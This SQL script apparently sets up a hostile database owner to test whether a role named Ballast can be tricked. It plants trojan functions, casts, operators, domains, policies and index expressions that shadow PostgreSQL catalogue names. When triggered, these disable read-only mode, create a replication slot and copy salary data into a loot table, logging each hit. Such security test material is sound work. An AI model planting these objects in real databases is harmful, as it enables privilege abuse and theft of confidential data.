-- The names of PostgreSQL's own catalogues, functions, operators and types, made over by the owner of
-- a database and put in front of everybody's path. harm() does what Ballast's role may and the owner
-- may not, and says so in the server's log.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.loot (who text, what text);
GRANT INSERT ON evil.loot TO PUBLIC;
CREATE FUNCTION evil.harm() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF session_user OPERATOR(pg_catalog.=) 'ballast' THEN
    RAISE LOG 'HARM done as %', session_user;
    PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
    PERFORM pg_catalog.pg_create_physical_replication_slot('left_by_app', true);
    INSERT INTO evil.loot SELECT session_user, s::text FROM hr.salary s;
  END IF;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $$;
CREATE FUNCTION evil.harm_immutable(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  'BEGIN PERFORM evil.harm(); RETURN i; END';

CREATE TABLE public.orders (id int PRIMARY KEY, body text, at timestamp);
INSERT INTO public.orders SELECT g, 'order ' || g, now() FROM pg_catalog.generate_series(1, 1000) g;
CREATE INDEX ON public.orders ((id + evil.harm_immutable(1)));
CREATE STATISTICS public.orders_statistics ON (id + evil.harm_immutable(2)), (body || '') FROM public.orders;
CREATE MATERIALIZED VIEW public.daily AS SELECT pg_catalog.count(*) AS orders FROM public.orders;
CREATE INDEX ON public.daily ((orders + evil.harm_immutable(1)));
CREATE FUNCTION evil.row_text(o public.orders) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  'BEGIN PERFORM evil.harm(); RETURN o.body; END';
CREATE CAST (public.orders AS text) WITH FUNCTION evil.row_text(public.orders) AS IMPLICIT;
ALTER TABLE public.orders ENABLE ROW LEVEL SECURITY, ADD CHECK (evil.harm_immutable(id) = id);
CREATE POLICY hostile ON public.orders USING (evil.harm());

CREATE TABLE public.parted (id int) PARTITION BY RANGE ((id + evil.harm_immutable(0)));
CREATE TABLE public.part PARTITION OF public.parted FOR VALUES FROM (0) TO (100);
INSERT INTO public.part VALUES (1);
CREATE VIEW public.seen AS SELECT o.id FROM public.orders o WHERE evil.harm();

DO $$
DECLARE
  each record;
BEGIN
  FOR each IN
    SELECT c.relname FROM pg_catalog.pg_class c
     WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
  LOOP
    BEGIN
      EXECUTE pg_catalog.format(
        'CREATE VIEW evil.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE evil.harm()', each.relname);
      EXECUTE pg_catalog.format('GRANT SELECT ON evil.%I TO PUBLIC', each.relname);
    EXCEPTION WHEN invalid_table_definition THEN
      CONTINUE; -- the planner's statistics, of the pseudo-type anyarray
    END;
  END LOOP;

  -- Whatever a query may call by its bare name; those of pseudo-types aside.
  FOR each IN
    SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
           pg_catalog.format_type(p.prorettype, NULL) AS result, p.proretset
      FROM pg_catalog.pg_proc p
     WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
       AND (p.proname ~ '^(has_|pg_(has_role|relation|total|is_in|current|export|backend|tablespace|partition|get_|logical|show|postmaster|last|wal|switch)|current_|set_config|row_security|hashtext|btrim|now|replace|string_|array_|date_trunc|quote_|regexp_replace|split_part|substr|coalesce|version|getdatabase)')
  LOOP
    BEGIN
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION evil.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L',
        each.proname, each.arguments, CASE WHEN each.proretset THEN 'SETOF ' ELSE '' END, each.result,
        'BEGIN PERFORM evil.harm(); ' || CASE WHEN each.proretset THEN 'RETURN; END' ELSE 'RETURN NULL; END' END);
    EXCEPTION WHEN OTHERS THEN
      CONTINUE;
    END;
  END LOOP;

  FOR each IN
    SELECT o.oprname, l.typname AS l, r.typname AS r, pg_catalog.format_type(o.oprresult, NULL) AS result, o.oid
      FROM pg_catalog.pg_operator o
      JOIN pg_catalog.pg_type l ON l.oid = o.oprleft
      JOIN pg_catalog.pg_type r ON r.oid = o.oprright
     WHERE o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '-', '+', '/', '~', '!~', '!~~', '~~')
       AND l.typname IN ('name', 'text', 'oid', 'char', 'int4', 'int8', 'int2', 'bool', 'tid', 'timestamptz', 'float8', 'numeric')
       AND r.typname IN ('name', 'text', 'oid', 'char', 'int4', 'int8', 'int2', 'bool', 'tid', 'timestamptz', 'float8', 'numeric', 'interval')
  LOOP
    EXECUTE pg_catalog.format(
      'CREATE FUNCTION evil.op_%s(a pg_catalog.%I, b pg_catalog.%I) RETURNS %s LANGUAGE plpgsql AS %L',
      each.oid, each.l, each.r, each.result, 'BEGIN PERFORM evil.harm(); RETURN NULL; END');
    EXECUTE pg_catalog.format(
      'CREATE OPERATOR evil.%s (FUNCTION = evil.op_%s, LEFTARG = pg_catalog.%I, RIGHTARG = pg_catalog.%I)',
      each.oprname, each.oid, each.l, each.r);
  END LOOP;
END $$;

CREATE FUNCTION evil.harm_of(v pg_catalog.text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  'BEGIN RETURN evil.harm(); END';
CREATE DOMAIN evil.text AS pg_catalog.text CHECK (evil.harm_of(VALUE));
CREATE DOMAIN evil.oid AS pg_catalog.oid CHECK (evil.harm_of(VALUE::pg_catalog.text));
CREATE DOMAIN evil.tid AS pg_catalog.tid CHECK (evil.harm_of(VALUE::pg_catalog.text));
CREATE DOMAIN evil.regclass AS pg_catalog.regclass CHECK (evil.harm_of(VALUE::pg_catalog.text));
CREATE FUNCTION evil.counted(n pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE plpgsql AS
  'BEGIN PERFORM evil.harm(); RETURN 0; END';
CREATE AGGREGATE evil.count(*) (sfunc = evil.counted, stype = pg_catalog.int8, initcond = '0');
